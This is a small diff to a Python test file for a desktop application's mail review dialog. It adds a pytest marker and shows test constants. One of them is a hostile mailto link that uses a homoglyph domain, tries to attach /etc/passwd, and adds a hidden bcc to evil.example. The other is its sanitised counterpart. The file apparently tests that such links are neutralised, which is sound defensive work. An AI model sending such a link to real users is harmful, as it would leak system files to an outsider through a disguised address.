@@ -14,6 +14,8 @@ from deskreader.desktop.dialogs.mail_review import MailReviewDialog
 from tests.desktop.conftest import Shown
 from tests.desktop.fake_engine import FakeEngine
 
+pytestmark = pytest.mark.qt_log_ignore("propagateSizeHints")
+
 LINK = "mailto:ann@pаper.example?subject=Hello&attach=/etc/passwd&bcc=x@evil.example&body=one%0D%0Atwo"
 SAFE = "mailto:ann@p%D0%B0per.example?subject=Hello&body=one%0D%0Atwo"
 
